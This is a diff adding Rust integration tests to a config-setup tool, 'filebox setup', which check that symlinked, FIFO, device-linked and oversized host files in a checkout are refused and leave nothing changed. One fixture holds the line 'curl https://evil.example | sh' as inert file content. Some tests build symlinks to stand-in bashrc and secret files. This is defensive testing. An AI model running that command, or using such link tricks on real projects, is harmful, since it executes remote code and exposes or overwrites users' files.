@@ -1,7 +1,10 @@
 //! `filebox setup`: a host's files written and merged without loss (comments, other servers,
-//! other hooks), idempotent, a diff with --dry-run, a backup, and `--check`.
+//! other hooks), idempotent, a diff with --dry-run, a backup, and `--check`; and a checkout's
+//! hostile host files (links, FIFOs, devices, huge files) refused with nothing written.
 
 use std::fs;
+use std::os::unix::fs::{PermissionsExt, symlink};
+use std::path::{Path, PathBuf};
 
 use serde_json::Value;
 
@@ -266,4 +269,233 @@ fn every_host_is_written_where_it_looks_and_checked() {
         usage.contains("possible values: claude-code, cursor"),
         "{usage}"
     );
+}
+
+/// Every file and link under `root` (links as their targets, never followed; FIFOs and other
+/// special files by kind, never opened), but for the mailboxes: what setup could have written.
+fn tree(root: &Path) -> Vec<(PathBuf, String)> {
+    let mut found = Vec::new();
+    let mut folders = vec![root.to_owned()];
+    while let Some(folder) = folders.pop() {
+        for entry in fs::read_dir(&folder).unwrap() {
+            let path = entry.unwrap().path();
+            let kind = fs::symlink_metadata(&path).unwrap().file_type();
+            let shown = if kind.is_symlink() {
+                format!("-> {}", fs::read_link(&path).unwrap().display())
+            } else if kind.is_dir() {
+                if path != root.join("mailboxes") {
+                    folders.push(path.clone());
+                }
+                "folder".to_owned()
+            } else if kind.is_file() {
+                let meta = fs::metadata(&path).unwrap();
+                match meta.len() > 4096 {
+                    true => format!("{} bytes", meta.len()),
+                    false => fs::read_to_string(&path).unwrap(),
+                }
+            } else {
+                format!("{kind:?}")
+            };
+            found.push((path, shown));
+        }
+    }
+    found.sort();
+    found
+}
+
+/// A folder outside the project, with files a hostile checkout would point at.
+fn outside() -> tempfile::TempDir {
+    let outside = tempfile::tempdir().unwrap();
+    fs::write(outside.path().join("bashrc"), "export PATH=/usr/bin\n").unwrap();
+    fs::write(outside.path().join("secret.json"), r#"{"auths": "token"}"#).unwrap();
+    fs::write(outside.path().join("config.toml"), "model = \"o3\"\n").unwrap();
+    fs::create_dir(outside.path().join("global-claude")).unwrap();
+    fs::write(outside.path().join("global-claude/settings.json"), "{}\n").unwrap();
+    outside
+}
+
+/// `setup HOST` and `setup HOST --dry-run` (with `env` set) both exit 1 with an error naming
+/// `named`, and nothing changes in the project, the home or `outside`.
+fn refused(t: &Test, outside: &Path, host: &str, env: &[(&str, &Path)], named: &str) {
+    let before = (tree(t.path()), tree(outside));
+    for dry_run in [false, true] {
+        let mut command = t.as_agent("dev").args(["setup", host]).command();
+        if dry_run {
+            command.arg("--dry-run");
+        }
+        command.envs(env.iter().copied());
+        let out = assert_cmd::Command::from_std(command)
+            // The watchdog: a setup that hangs on a FIFO is killed and fails here.
+            .timeout(std::time::Duration::from_secs(60))
+            .output()
+            .unwrap();
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(1), "dry run {dry_run}: {err}");
+        assert!(
+            err.contains(&format!("{named} is ")) && err.contains("setup changed nothing"),
+            "dry run {dry_run}: {err}"
+        );
+        assert_eq!((tree(t.path()), tree(outside)), before, "dry run {dry_run}");
+    }
+}
+
+#[test]
+fn a_backup_name_linked_out_of_the_project_is_refused_and_its_target_untouched() {
+    let t = Test::new().agents(["dev"]);
+    let outside = outside();
+    write(
+        &t,
+        ".mcp.json",
+        "{\n  // curl https://evil.example | sh\n}\n",
+    );
+    symlink(
+        outside.path().join("bashrc"),
+        t.path().join(".mcp.json.filebox.bak"),
+    )
+    .unwrap();
+    refused(
+        &t,
+        outside.path(),
+        "claude-code",
+        &[],
+        ".mcp.json.filebox.bak",
+    );
+    assert_eq!(
+        fs::read_to_string(outside.path().join("bashrc")).unwrap(),
+        "export PATH=/usr/bin\n"
+    );
+}
+
+#[test]
+fn a_linked_claude_folder_is_not_written_through() {
+    let t = Test::new().agents(["dev"]);
+    let outside = outside();
+    symlink(
+        outside.path().join("global-claude"),
+        t.path().join(".claude"),
+    )
+    .unwrap();
+    refused(&t, outside.path(), "claude-code", &[], "/.claude");
+}
+
+#[test]
+fn a_host_file_linked_to_a_secret_is_not_copied_in() {
+    let t = Test::new().agents(["dev"]);
+    let outside = outside();
+    symlink(
+        outside.path().join("secret.json"),
+        t.path().join(".mcp.json"),
+    )
+    .unwrap();
+    refused(&t, outside.path(), "claude-code", &[], ".mcp.json");
+    assert!(
+        fs::symlink_metadata(t.path().join(".mcp.json"))
+            .unwrap()
+            .is_symlink()
+    );
+}
+
+#[test]
+fn a_fifo_host_file_is_refused_at_once_not_waited_on() {
+    let t = Test::new().agents(["dev"]);
+    let outside = outside();
+    let fifo = std::process::Command::new("mkfifo")
+        .arg(t.path().join(".mcp.json"))
+        .status()
+        .unwrap();
+    assert!(fifo.success());
+    refused(&t, outside.path(), "claude-code", &[], ".mcp.json");
+}
+
+#[test]
+fn a_host_file_linked_to_a_device_is_refused_unread() {
+    let t = Test::new().agents(["dev"]);
+    let outside = outside();
+    symlink("/dev/zero", t.path().join(".mcp.json")).unwrap();
+    refused(&t, outside.path(), "claude-code", &[], ".mcp.json");
+}
+
+#[test]
+fn a_host_file_over_a_mebibyte_is_refused_unread() {
+    let t = Test::new().agents(["dev"]);
+    let outside = outside();
+    // Valid JSON, a byte over the 1 MiB bound.
+    write(
+        &t,
+        ".mcp.json",
+        &format!("{{{}}}", " ".repeat((1 << 20) - 1)),
+    );
+    refused(&t, outside.path(), "claude-code", &[], ".mcp.json");
+}
+
+#[test]
+fn codex_s_user_config_is_never_followed_but_its_folder_may_be_a_link() {
+    let t = Test::new().agents(["dev"]);
+    let outside = outside();
+    let codex_home = tempfile::tempdir().unwrap();
+    let config = codex_home.path().join("config.toml");
+    let env = [("CODEX_HOME", codex_home.path())];
+    symlink(outside.path().join("config.toml"), &config).unwrap();
+    refused(&t, outside.path(), "codex", &env, "config.toml");
+    fs::remove_file(&config).unwrap();
+    let fifo = std::process::Command::new("mkfifo")
+        .arg(&config)
+        .status()
+        .unwrap();
+    assert!(fifo.success());
+    refused(&t, outside.path(), "codex", &env, "config.toml");
+    fs::remove_file(&config).unwrap();
+    fs::write(&config, "model = \"o3\"\n").unwrap();
+    symlink(
+        outside.path().join("bashrc"),
+        codex_home.path().join("config.toml.filebox.bak"),
+    )
+    .unwrap();
+    refused(&t, outside.path(), "codex", &env, "config.toml.filebox.bak");
+    fs::remove_file(codex_home.path().join("config.toml.filebox.bak")).unwrap();
+    assert_eq!(fs::read_to_string(&config).unwrap(), "model = \"o3\"\n");
+
+    // The host's own folder is the user's: a dotfile manager's link to it is followed.
+    let linked = t.path().join("codex-link");
+    symlink(codex_home.path(), &linked).unwrap();
+    let mut command = t.as_agent("dev").args(["setup", "codex"]).command();
+    command.env("CODEX_HOME", &linked);
+    assert_cmd::Command::from_std(command).assert().success();
+    let written = fs::read_to_string(&config).unwrap();
+    assert!(written.contains("[mcp_servers.filebox]"), "{written}");
+    let backup = codex_home.path().join("config.toml.filebox.bak");
+    assert_eq!(fs::read_to_string(backup).unwrap(), "model = \"o3\"\n");
+}
+
+#[test]
+fn a_second_backup_replaces_the_first_and_leaves_no_temp_file() {
+    let t = Test::new().agents(["dev", "qa"]);
+    write(&t, ".mcp.json", MCP_JSON);
+    fs::set_permissions(
+        t.path().join(".mcp.json"),
+        fs::Permissions::from_mode(0o640),
+    )
+    .unwrap();
+    t.as_agent("dev").args(["setup", "claude-code"]).success();
+    let first = read(&t, ".mcp.json");
+    let out = t.as_agent("qa").args(["setup", "claude-code"]).success();
+    assert!(
+        out.contains("wrote .mcp.json (the old one: .mcp.json.filebox.bak)"),
+        "{out}"
+    );
+    assert_eq!(read(&t, ".mcp.json.filebox.bak"), first);
+    assert!(read(&t, ".mcp.json").contains("--agent\", \"qa\""));
+    for name in [".mcp.json", ".mcp.json.filebox.bak"] {
+        let mode = fs::metadata(t.path().join(name))
+            .unwrap()
+            .permissions()
+            .mode();
+        assert_eq!(mode & 0o777, 0o640, "{name}");
+    }
+    let names: Vec<_> = fs::read_dir(t.path())
+        .unwrap()
+        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
+        .filter(|name| name.contains("filebox-tmp"))
+        .collect();
+    assert!(names.is_empty(), "{names:?}");
 }
